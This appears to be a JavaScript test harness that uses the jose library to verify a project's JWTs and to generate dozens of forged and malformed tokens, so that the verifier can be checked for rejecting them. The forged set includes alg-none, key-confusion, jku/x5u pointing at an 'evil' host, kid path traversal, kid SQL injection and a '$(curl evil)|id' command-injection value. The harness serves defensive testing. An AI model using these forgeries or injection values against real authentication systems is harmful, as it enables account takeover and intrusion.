// npm jose as a second opinion on our tokens, and as the tool of somebody who forges them.
import * as jose from 'jose'
import { createHmac } from 'node:crypto'
import { verifyToken } from '@clerk/backend'
import { answerLines } from './lines.mjs'

const encode = (value) => Buffer.from(typeof value === 'string' ? value : JSON.stringify(value)).toString('base64url')

// A compact token of exactly these parts; jose itself refuses to make most of them.
const compact = (header, payload, sign) => {
  const input = `${encode(header)}.${encode(payload)}`
  return `${input}.${Buffer.from(sign(input)).toString('base64url')}`
}

const hmac = (secret, hash = 'sha256') => (input) => createHmac(hash, secret).update(input).digest()

await answerLines({
  verify: async ({ token, secret, jwk, algorithms, issuer, audience }) => {
    const key = jwk ? await jose.importJWK(jwk, algorithms[0]) : Buffer.from(secret, 'base64')
    const { payload, protectedHeader } = await jose.jwtVerify(token, key, { algorithms, issuer, audience })
    return { payload, header: protectedHeader }
  },

  verifyAsClerk: async ({ token, pem, authorizedParties }) => verifyToken(token, { jwtKey: pem, authorizedParties }),

  // What somebody without our secret can make of a genuine token.
  forge: async ({ token, evil }) => {
    const header = jose.decodeProtectedHeader(token)
    const claims = jose.decodeJwt(token)
    const own = new Uint8Array(32)
    const { publicKey, privateKey } = await jose.generateKeyPair('RS256', { extractable: true })
    const jwk = await jose.exportJWK(publicKey)
    const pem = await jose.exportSPKI(publicKey)
    const withOwn = (more) => compact({ ...header, ...more }, claims, hmac(own))
    const rs = (more) => new jose.SignJWT(claims).setProtectedHeader({ alg: 'RS256', kid: header.kid, ...more }).sign(privateKey)
    const parts = token.split('.')
    const letters = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_'
    return {
      'alg none': new jose.UnsecuredJWT(claims).encode(),
      'alg none with our key id': compact({ ...header, alg: 'none' }, claims, () => ''),
      'alg None': compact({ ...header, alg: 'None' }, claims, () => ''),
      'alg none, our signature': `${encode({ ...header, alg: 'none' })}.${parts[1]}.${parts[2]}`,
      'no signature': `${parts[0]}.${parts[1]}.`,
      'HS256 with zeros': withOwn({}),
      'HS256 with nothing': compact(header, claims, hmac('')),
      'HS512': compact({ ...header, alg: 'HS512' }, claims, hmac(own, 'sha512')),
      'RS256 under our key id': await rs({}),
      'RS256 with its own jwk': await rs({ jwk }),
      'HS256 with its own jwk': withOwn({ jwk: { kty: 'oct', k: Buffer.from(own).toString('base64url') } }),
      'jku': await rs({ jku: `${evil}/jwks.json`, kid: 'evil' }),
      'jku under our key id': await rs({ jku: `${evil}/jwks.json` }),
      'x5u': await rs({ x5u: `${evil}/cert.pem`, kid: 'evil' }),
      'x5c': await rs({ x5c: [Buffer.from(pem).toString('base64')], kid: 'evil' }),
      'kid /dev/null': compact({ ...header, kid: '../../../../../../dev/null' }, claims, hmac('')),
      'kid with a zero byte': compact({ ...header, kid: `${header.kid}\u0000` }, claims, hmac(own)),
      'kid SQL': compact({ ...header, kid: "x' union select '\\x00' as secret --" }, claims, hmac('\\x00')),
      'kid SQL true': compact({ ...header, kid: "' or '1'='1" }, claims, hmac(own)),
      'kid command': compact({ ...header, kid: '$(curl evil)|id' }, claims, hmac(own)),
      'kid URL': compact({ ...header, kid: `${evil}/key` }, claims, hmac(own)),
      'kid array': compact({ ...header, kid: [header.kid] }, claims, hmac(own)),
      'kid half a character': compact(`{"alg":"HS256","kid":"\\ud800"}`, claims, hmac(own)),
      'typ half a character': compact(`{"alg":"HS256","typ":"\\udfff","kid":"${header.kid}"}`, claims, hmac(own)),
      'alg half a character': compact(`{"alg":"\\ud83d","kid":"${header.kid}"}`, claims, hmac(own)),
      'no kid': compact({ alg: 'HS256', typ: 'JWT' }, claims, hmac(own)),
      'encrypted': await new jose.EncryptJWT(claims).setProtectedHeader({ alg: 'dir', enc: 'A256GCM', kid: header.kid }).encrypt(own),
      'json serialization': JSON.stringify({ protected: parts[0], payload: parts[1], signature: parts[2] }),
      'other claims, our signature': `${parts[0]}.${encode({ ...claims, sub: '00000000-0000-7000-8000-000000000000' })}.${parts[2]}`,
      'longer life, our signature': `${parts[0]}.${encode({ ...claims, exp: claims.exp + 3600 })}.${parts[2]}`,
      'padding': `${token}=`,
      'padded parts': parts.map((part) => part + '='.repeat((4 - (part.length % 4)) % 4 || 4)).join('.'),
      'non-canonical end of the signature': token.slice(0, -1) + letters[letters.indexOf(token.at(-1)) ^ 1],
      'ordinary base64': parts.map((part) => Buffer.from(part, 'base64url').toString('base64')).join('.') + '+/',
      'white space': `${parts[0]} .${parts[1]}.${parts[2]}`,
      'percent encoding': token.replaceAll('.', '%2e'),
      'a fourth part': `${token}.${parts[2]}`,
      'oversized': compact(header, { ...claims, pad: 'x'.repeat(9000) }, hmac(own)),
      'broken UTF-8': `${parts[0]}.${Buffer.from([0x7b, 0x22, 0x69, 0x73, 0x73, 0x22, 0x3a, 0x22, 0xff, 0xfe, 0x22, 0x7d]).toString('base64url')}.${parts[2]}`,
    }
  },

  // What even our own signature must not save: the same key, another purpose.
  misuse: async ({ token, secret }) => {
    const header = jose.decodeProtectedHeader(token)
    const claims = jose.decodeJwt(token)
    const key = Buffer.from(secret, 'base64')
    const signed = (changed, more = {}) => compact({ ...header, ...more }, typeof changed === 'string' ? changed : { ...claims, ...changed }, hmac(key))
    const without = (name) => Object.fromEntries(Object.entries(claims).filter(([key]) => key !== name))
    const text = JSON.stringify(claims)
    return {
      'another audience': signed({ aud: 'others' }),
      'an audience that begins like ours': signed({ aud: `${claims.aud}.evil` }),
      'no audience': compact(header, without('aud'), hmac(key)),
      'another issuer': signed({ iss: 'others' }),
      'no issuer': compact(header, without('iss'), hmac(key)),
      'no end': compact(header, without('exp'), hmac(key)),
      'an end that is text': signed({ exp: String(claims.exp) }),
      'not yet': signed({ nbf: claims.exp - 1 }),
      'no person': compact(header, without('sub'), hmac(key)),
      'a person that is no id': signed({ sub: 'ada' }),
      'no log-in': compact(header, without('sid'), hmac(key)),
      'typ refresh': signed({}, { typ: 'refresh+jwt' }),
      'typ logout': signed({}, { typ: 'logout+jwt' }),
      'typ number': signed({}, { typ: 7 }),
      'crit': signed({}, { crit: ['exp'], exp: claims.exp }),
      'crit b64': signed({}, { crit: ['b64'], b64: true }),
      'crit empty': signed({}, { crit: [] }),
      'HS512 with our secret': compact({ ...header, alg: 'HS512' }, claims, hmac(key, 'sha512')),
      'alg in lower case': compact({ ...header, alg: 'hs256' }, claims, hmac(key)),
      'no alg': compact({ typ: 'JWT', kid: header.kid }, claims, hmac(key)),
      'duplicate alg': compact(`{"alg":"none","alg":"HS256","typ":"JWT","kid":"${header.kid}"}`, claims, hmac(key)),
      'duplicate kid': compact(`{"alg":"HS256","typ":"JWT","kid":"other","kid":"${header.kid}"}`, claims, hmac(key)),
      'duplicate sub': compact(header, text.replace('{', '{"sub":"00000000-0000-7000-8000-000000000000",'), hmac(key)),
      'claims that are an array': compact(header, `[${text}]`, hmac(key)),
      'claims half a character': compact(header, text.replace('{', '{"x":"\\ud800",'), hmac(key)),
      'a comment in the claims': compact(header, text.replace('{', '{/* */'), hmac(key)),
      'deep claims': compact(header, text.replace('{', `{"x":${'['.repeat(40)}${']'.repeat(40)},`), hmac(key)),
      'oversized': signed({ pad: 'x'.repeat(9000) }),
    }
  },
})
